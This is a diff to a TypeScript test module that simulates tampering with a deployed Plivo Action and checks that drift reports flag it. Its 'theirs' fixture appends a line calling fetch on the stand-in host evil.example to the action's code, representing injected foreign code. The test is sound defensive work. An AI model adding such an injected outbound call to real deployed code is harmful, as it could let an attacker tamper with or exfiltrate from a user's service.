@@ -1,3 +1,4 @@
+import { plivoAction } from "../../../../senders/plivo/action.ts";
 import { otherToken } from "../deployedStack.ts";
 import type { DeployedStack } from "../deployedStack.ts";
 import type { Change, Work } from "./Change.ts";
@@ -22,10 +23,8 @@ async function deployAction(stack: DeployedStack, patch: object): Promise<void> 
   await stack.api("POST", `${path}/deploy`);
 }
 
-const ours = ({ declared: { plivoActionCode: code } }: DeployedStack): object => ({ code });
-const theirs = ({ declared: { plivoActionCode: code } }: DeployedStack): object => ({
-  code: `${code}fetch("https://evil.example");\n`,
-});
+const ours = (): object => ({ code: plivoAction.code });
+const theirs = (): object => ({ code: `${plivoAction.code}fetch("https://evil.example");\n` });
 
 const secretsOf = ({ sender }: DeployedStack): { name: string; value: string }[] => {
   if (sender.kind !== "plivo") return [];
@@ -46,22 +45,22 @@ const actionChange = (
 export const actionChanges: Change[] = [
   actionChange(
     "other code, a draft",
-    async (stack) => stack.api("PATCH", await action(stack), theirs(stack)),
+    async (stack) => stack.api("PATCH", await action(stack), theirs()),
     ours,
     {
       "Action's code": /\+1 −0 lines/,
       "deployed Action": /version \d+, not the latest/,
     },
   ),
-  actionChange("other code, deployed", (stack) => deployAction(stack, theirs(stack)), ours, {
+  actionChange("other code, deployed", (stack) => deployAction(stack, theirs()), ours, {
     "Action's code": /\+1 −0 lines/,
     "deployed code": /version \d+ runs/,
   }),
   actionChange(
     "an older version deployed",
     async (stack) => {
-      await deployAction(stack, theirs(stack));
-      await deployAction(stack, ours(stack));
+      await deployAction(stack, theirs());
+      await deployAction(stack, ours());
       const path = await action(stack);
       const { versions } = (await stack.api("GET", `${path}/versions`)) as { versions: { id: string }[] };
       await stack.api("POST", `${path}/versions/${versions[1]?.id ?? ""}/deploy`);
